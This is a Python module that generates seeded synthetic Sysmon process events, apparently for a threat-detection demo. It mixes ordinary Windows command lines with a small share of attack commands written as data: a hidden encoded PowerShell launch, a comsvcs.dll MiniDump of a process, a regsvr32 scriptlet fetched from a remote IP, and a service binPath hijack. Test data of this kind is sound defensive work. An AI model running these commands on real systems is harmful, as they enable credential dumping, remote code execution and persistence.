"""Synthetic Windows events for the demo where no real ones are given: a seeded generator, the same rows each time.

It is an example's generator, not real data: a few hosts, ordinary command lines, and a known share of suspicious ones.
"""

from __future__ import annotations

import datetime
import json
import random
from collections.abc import Iterator

__all__ = ["synthetic_events"]

_START = datetime.datetime(2026, 1, 15, 8, 0, tzinfo=datetime.UTC)
_HOSTS = tuple(f"ws{number:02d}.example.net" for number in range(12))
_ORDINARY = (
    r"C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule",
    r"C:\Windows\System32\taskhostw.exe",
    r'"C:\Program Files\Editor\editor.exe" report.txt',
    r"C:\Windows\System32\RuntimeBroker.exe -Embedding",
    r'"C:\Program Files\Browser\browser.exe" --type=renderer',
)
_SUSPICIOUS = (
    r"powershell.exe -NoP -W Hidden -enc SQBtAHAAbwByAHQALQBNAG8AZAB1AGwAZQA=",
    r"rundll32.exe C:\Windows\System32\comsvcs.dll MiniDump 640 C:\Temp\out.dmp full",
    r"whoami /all",
    r'"C:\Windows\System32\net.exe" localgroup administrators',
    r"regsvr32.exe /s /u /i:http://203.0.113.7/a.sct scrobj.dll",
    r"sc.exe config Spooler binPath= C:\Temp\a.exe",
)
_SUSPICIOUS_SHARE = 0.01


def synthetic_events(count: int, *, seed: int = 7) -> Iterator[str]:
    """`count` events as JSON lines in the order of their event time, about 200 a second of event time."""
    chance = random.Random(seed)
    moment = _START
    for number in range(count):
        moment += datetime.timedelta(milliseconds=chance.randrange(10))
        line = chance.choice(_SUSPICIOUS if chance.random() < _SUSPICIOUS_SHARE else _ORDINARY)
        yield json.dumps(
            {
                "@timestamp": moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond // 1000:03d}Z",
                "Hostname": chance.choice(_HOSTS),
                "Channel": "Microsoft-Windows-Sysmon/Operational",
                "EventID": chance.choice((1, 3, 5, 7, 10, 11)),
                "Image": line.split()[0].strip('"'),
                "CommandLine": line,
                "RecordNumber": number,
            }
        )
